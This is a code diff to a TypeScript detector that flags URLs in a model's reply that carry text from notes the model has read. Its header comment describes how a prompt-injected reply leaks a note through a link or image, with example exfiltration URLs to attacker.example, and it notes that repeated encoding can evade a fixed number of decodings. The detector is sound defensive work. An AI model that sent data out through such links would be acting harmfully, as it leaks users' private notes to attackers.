@@ -1,8 +1,8 @@
 /**
- * Whether a URL carries text from a note read this turn: the way a prompt-injected reply sends a
+ * Whether a URL carries text from a note the model had seen (notes-read.ts): the way a prompt-injected reply sends a
  * note out is a link (or an image) whose address holds the note's words, e.g.
  * `https://attacker.example/?d=hunter2-horse`. The URL is decoded the ways a server would read it
- * (percent-encoding, `+` as space) and compared with each note's text; a shared run of
+ * (percent-encoding, however often; every separator, `+` included, is dropped) and compared with each note's text; a shared run of
  * LEAK_RUN characters (letters and digits, case folded) is enough. Only the host's registrable
  * part (its last two labels) is left out, as a site's own name is no secret; a subdomain can carry
  * one (`hunter2.attacker.example`).
@@ -14,13 +14,11 @@ export const LEAK_RUN = 8;
 
 /** The paths of the notes whose text the URL carries, in reading order, each once. */
 export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
-	if (reads.length === 0) return [];
 	const carried = fold(carriedText(url));
-	if (carried.length < LEAK_RUN) return [];
 	const found: string[] = [];
 	for (const read of reads) {
 		if (found.includes(read.path)) continue;
-		const note = fold(read.text);
+		const note = foldedText(read);
 		for (let i = 0; i + LEAK_RUN <= carried.length; i++) {
 			if (note.includes(carried.slice(i, i + LEAK_RUN))) {
 				found.push(read.path);
@@ -31,6 +29,18 @@ export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
 	return found;
 }
 
+/** A note's text folded once: the same reads (notes-read.ts keeps them) are checked for every link of every reply. */
+const folded = new WeakMap<NoteRead, string>();
+function foldedText(read: NoteRead): string {
+	let text = folded.get(read);
+	// Stryker disable next-line ConditionalExpression: a cache only; folding the same text again gives the same text
+	if (text === undefined) {
+		text = fold(read.text);
+		folded.set(read, text);
+	}
+	return text;
+}
+
 /** Everything in the URL but its scheme and registrable host, decoded. */
 function carriedText(url: string): string {
 	let parsed: URL;
@@ -39,25 +49,32 @@ function carriedText(url: string): string {
 	} catch {
 		return decode(url);
 	}
-	const labels = parsed.hostname.split(".");
-	const sub = labels.slice(0, Math.max(0, labels.length - 2)).join(".");
-	return [sub, parsed.username, parsed.password, decode(parsed.pathname), decode(parsed.search.replace(/\+/g, " ")), decode(parsed.hash)].join(" ");
+	// The subdomain: every label but the last two (none of a one- or two-label host).
+	const sub = parsed.hostname.split(".").slice(0, -2);
+	// Stryker disable next-line StringLiteral: fold() drops every separator, so what joins the parts never shows
+	return [...sub, parsed.username, parsed.password, decode(parsed.pathname), decode(parsed.search), decode(parsed.hash)].join(" ");
 }
 
+/**
+ * Decoded until decoding changes nothing: an address can be encoded any number of times to slip
+ * past a fixed number of decodings, and its server can decode as often as it likes. (Each
+ * decoding that changes the text shortens it, so this ends.)
+ */
 function decode(text: string): string {
-	// Twice: an address can be encoded twice to slip past a single decoding.
 	let out = text;
-	for (let i = 0; i < 2; i++) {
+	for (;;) {
+		let next: string;
 		try {
-			out = decodeURIComponent(out);
+			next = decodeURIComponent(out);
 		} catch {
-			break;
+			return out;
 		}
+		if (next === out) return out;
+		out = next;
 	}
-	return out;
 }
 
 /** Runs of letters and digits only, lower case: separators are where an encoding differs most. */
 function fold(text: string): string {
-	return text.normalize("NFKC").toLowerCase().replace(/[^\p{L}\p{N}]+/gu, "");
+	return text.normalize("NFKC").toLowerCase().replace(/[^\p{L}\p{N}]/gu, "");
 }
